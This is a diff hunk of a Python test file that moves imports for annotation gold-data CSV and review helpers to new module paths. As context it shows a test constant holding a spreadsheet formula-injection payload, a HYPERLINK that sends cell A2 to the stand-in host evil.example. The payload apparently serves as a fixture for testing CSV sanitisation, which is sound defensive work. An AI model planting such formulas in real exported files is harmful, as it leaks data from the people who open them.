@@ -9,9 +9,9 @@ import pytest
 
 from upscway.errors import InputError
 from upscway.records import Candidate, GoldRow
-from upscway.tasks.annotate.gold import CSV_COLUMNS, read_csv, read_label_studio, validate, write_csv
-from upscway.tasks.annotate.review import import_reviewed
-from upscway.tasks.annotate.taxonomy import load_task
+from upscway.tasks.gold.sheets import CSV_COLUMNS, read_csv, read_label_studio, validate, write_csv
+from upscway.tasks.gold.review import import_reviewed
+from upscway.taxonomy import load_task
 
 TASK = load_task()
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"click me")'
